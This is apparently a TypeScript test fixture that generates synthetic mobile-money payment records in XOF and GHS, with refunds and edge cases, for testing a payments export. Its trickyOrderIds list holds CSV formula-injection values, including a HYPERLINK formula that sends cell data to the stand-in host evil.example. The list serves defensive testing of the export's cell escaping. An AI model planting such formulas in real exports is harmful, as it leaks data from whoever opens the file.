/**
 * Payments for the export's tests and bench (issue 44): many of them, in two currencies (XOF with
 * no decimals, GHS with two), refunded in part, in full, pending or failed, with payers' and
 * operators' names beyond ASCII, order ids a spreadsheet would run as formulas or that need quoting,
 * and several created in the same millisecond. Written as the companion writes them (a timeline
 * with the final state), through the contract's builders.
 */
import { addAmounts, fromMinorUnits, toMinorUnits } from '../../src/contract/money.js';
import type { PaymentState } from '../../src/contract/companion.js';
import type { CheckoutRecord } from '../../src/server/model/records.js';
import { newRefundRecord, type RefundRecord, type RefundState } from '../../src/server/model/refund.js';
import { sampleRecord, samplePayment } from '../../src/server/stores/store-contract.js';

/** Order ids that a spreadsheet would run, or that need quoting; each is given to one payment. */
export const trickyOrderIds = ['=HYPERLINK("https://evil.example/?q="&A1,"Facture")', '+33 commande', '-2+3', '@SUM(1+1)', '\tcmd', 'dit "bonjour", merci', 'commande-Éloïse-№7-مرحبا'];

const operators = [
  { code: 'mtn-bj', name: 'MTN Bénin', logoUrl: 'https://example.test/mtn.png', instructions: null },
  { code: 'moov-bj', name: 'Moov Africa Bénin', logoUrl: 'https://example.test/moov.png', instructions: null },
  { code: 'mtn-gh', name: 'MTN Ghana', logoUrl: 'https://example.test/mtn.png', instructions: null },
];

function refund(orderId: string, n: number, amount: string, state: RefundState, at: number): RefundRecord {
  return { ...newRefundRecord({ refundId: `${orderId}-refund-${n}`, payoutOrderId: `${orderId}-r${n}`, amount, reason: 'retour', phoneNumber: '+2290196000001' }, at), state, transactionId: state === 'sending' ? null : `tx-payout-${orderId}-${n}` };
}

/** `count` payments created from `start`, one a second, every tenth in the same millisecond as the one before. */
export function exportRecords(tag: string, count: number, start: number): CheckoutRecord[] {
  const records: CheckoutRecord[] = [];
  for (let i = 0; i < count; i++) {
    const createdAt = start + (i % 10 === 9 ? i - 1 : i) * 1_000;
    const ghana = i % 3 === 0;
    const amount = ghana ? fromMinorUnits(BigInt(500 + ((i * 7919) % 50_000)), 2) : String(500 + ((i * 104_729) % 99_500));
    const state: PaymentState = i % 17 === 5 ? 'failed' : i % 23 === 4 ? 'pending' : 'completed';
    const orderId = i < trickyOrderIds.length ? trickyOrderIds[i]! : `${tag}-${i}`;
    const phoneNumber = ghana ? `+23324${String(1_000_000 + i).slice(-7)}` : `+2290196${String(100_000 + i).slice(-6)}`;
    const finishedAt = createdAt + 40_000;
    const refunds: RefundRecord[] = [];
    if (state === 'completed' && i % 7 === 0) refunds.push(refund(orderId, 1, ghana ? '1.5' : '100', 'completed', finishedAt + 60_000));
    if (state === 'completed' && i % 11 === 0) refunds.push(refund(orderId, 2, ghana ? '0.25' : '50', i % 2 ? 'pending' : 'failed', finishedAt + 90_000));
    if (state === 'completed' && i % 101 === 0) refunds.push(refund(orderId, 3, ghana ? '0.1' : '10', 'sending', finishedAt + 95_000));
    const record = sampleRecord({ orderId, amount, currencyCode: ghana ? 'GHS' : 'XOF', decimalPlaces: ghana ? 2 : 0, createdAt, retainUntil: Date.now() + 7 * 86_400_000 });
    records.push({
      ...record,
      revision: 2,
      payment: samplePayment(orderId, {
        state,
        phoneNumber,
        ...(state === 'completed' ? { reportedPhoneNumber: phoneNumber } : {}),
        operator: operators[ghana ? 2 : i % 2]!,
        transactionId: `tx-${i}`,
        updatedAt: state === 'pending' ? createdAt + 5_000 : finishedAt + 100_000,
      }),
      timeline: [
        { kind: 'state', at: createdAt + 5_000, state: 'pending', attempt: 1 },
        ...(state === 'pending' ? [] : [{ kind: 'state' as const, at: finishedAt, state, attempt: 1 }]),
      ],
      ...(refunds.length > 0 ? { refunds } : {}),
    });
  }
  return records;
}

/** The exact totals of `records` per currency: the amounts, and the completed refunds (what the export's columns add up to). */
export function exportTotals(records: readonly CheckoutRecord[]): Map<string, { amount: string; refunded: string; rows: number }> {
  const totals = new Map<string, { amount: string; refunded: string; rows: number }>();
  for (const record of records) {
    const total = totals.get(record.currencyCode) ?? { amount: '0', refunded: '0', rows: 0 };
    const refunded = (record.refunds ?? []).filter((item) => item.state === 'completed').map((item) => item.amount);
    totals.set(record.currencyCode, { amount: addAmounts([total.amount, record.amount]), refunded: addAmounts([total.refunded, ...refunded]), rows: total.rows + 1 });
  }
  return totals;
}

/**
 * What the money was per currency (issue 55): the completed payments only (not held for support),
 * their completed refunds, and the net, each in minor units of the currency's decimals, added in
 * bigint apart from the code under test.
 */
export function receivedTotals(records: readonly CheckoutRecord[]): Map<string, { received: bigint; refunded: bigint; completed: number }> {
  const totals = new Map<string, { received: bigint; refunded: bigint; completed: number }>();
  for (const record of records) {
    if (record.payment?.state !== 'completed' || record.payment.amountMismatch || record.payment.phoneMismatch) continue;
    const places = record.decimalPlaces ?? 0;
    const total = totals.get(record.currencyCode) ?? { received: 0n, refunded: 0n, completed: 0 };
    const refunded = (record.refunds ?? []).filter((item) => item.state === 'completed').reduce((sum, item) => sum + toMinorUnits(item.amount, places), 0n);
    totals.set(record.currencyCode, { received: total.received + toMinorUnits(record.amount, places), refunded: total.refunded + refunded, completed: total.completed + 1 });
  }
  return totals;
}
